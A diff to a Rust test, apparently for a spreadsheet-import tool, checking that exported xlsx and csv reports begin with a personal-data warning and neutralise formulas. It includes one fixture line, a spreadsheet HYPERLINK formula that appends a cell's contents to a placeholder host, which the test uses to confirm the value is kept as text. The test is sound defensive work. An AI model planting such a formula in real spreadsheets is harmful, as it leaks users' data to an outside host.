@@ -644,22 +644,39 @@ fn corrected_mappings_and_statuses_are_remembered_for_the_same_headers() {
 #[test]
 fn the_report_is_saved_as_xlsx_or_csv() {
     let (dir, db) = world();
-    let report = preview(&db, "suivi-agence.xlsx", &ImportOptions::default());
+    let mut report = preview(&db, "suivi-agence.xlsx", &ImportOptions::default());
+    // A tracker's cell that a spreadsheet would run: kept as text in the report.
+    let formula = "=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"Cliquez\")";
+    report.issues[1].value = formula.into();
     let xlsx = dir.path().join("rapport.xlsx");
     import::report::save(&report, &xlsx).unwrap();
-    use calamine::{Reader, Xlsx, open_workbook};
+    use calamine::{Data, Reader, Xlsx, open_workbook};
     let mut book: Xlsx<_> = open_workbook(&xlsx).unwrap();
     assert_eq!(book.sheet_names(), ["Lignes à reprendre", "Résumé"]);
     let range = book.worksheet_range("Lignes à reprendre").unwrap();
-    assert_eq!(range.height(), 1 + report.issues.len());
-    assert_eq!(range.get((1, 2)).map(ToString::to_string).as_deref(), Some("M – SIRET"));
-    assert_eq!(range.get((1, 5)).map(ToString::to_string).as_deref(), Some("Ligne rejetée"));
+    // The warning first, then the headers, then the rows.
+    assert_eq!(range.height(), 2 + report.issues.len());
+    assert!(range.get((0, 0)).unwrap().to_string().starts_with("Données personnelles : ce rapport contient"));
+    assert_eq!(range.get((1, 0)).map(ToString::to_string).as_deref(), Some("Feuille"));
+    assert_eq!(range.get((2, 2)).map(ToString::to_string).as_deref(), Some("M – SIRET"));
+    assert_eq!(range.get((2, 5)).map(ToString::to_string).as_deref(), Some("Ligne rejetée"));
+    assert_eq!(range.get((3, 3)), Some(&Data::String(formula.into())), "a string, as it was");
+    assert!(book.worksheet_formula("Lignes à reprendre").unwrap().used_cells().next().is_none(), "no formula");
+    let summary = book.worksheet_range("Résumé").unwrap();
+    assert!(summary.get((0, 0)).unwrap().to_string().starts_with("Données personnelles"));
+    // …and flagged as text, so that editing it does not make it a formula either.
+    let mut zip = zip::ZipArchive::new(std::fs::File::open(&xlsx).unwrap()).unwrap();
+    let mut styles = String::new();
+    std::io::Read::read_to_string(&mut zip.by_name("xl/styles.xml").unwrap(), &mut styles).unwrap();
+    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
 
     let csv = dir.path().join("rapport.csv");
     import::report::save(&report, &csv).unwrap();
     let text = std::fs::read_to_string(&csv).unwrap();
-    assert!(text.starts_with("\u{feff}Feuille;Ligne;Colonne;Valeur;Problème;Suite"));
+    assert!(text.starts_with("\u{feff}Données personnelles : ce rapport contient"), "{text}");
+    assert!(text.lines().nth(1).unwrap().starts_with("Feuille;Ligne;Colonne;Valeur;Problème;Suite"));
     assert!(text.contains("suivi-agence;13;I – Métier visé;Astronaute;Métier introuvable"), "{text}");
+    assert!(text.contains(";\"'=HYPERLINK("), "the formula quoted: {text}");
 }
 
 /// A tracker that states the same promotion twice (the sending, then the employer's
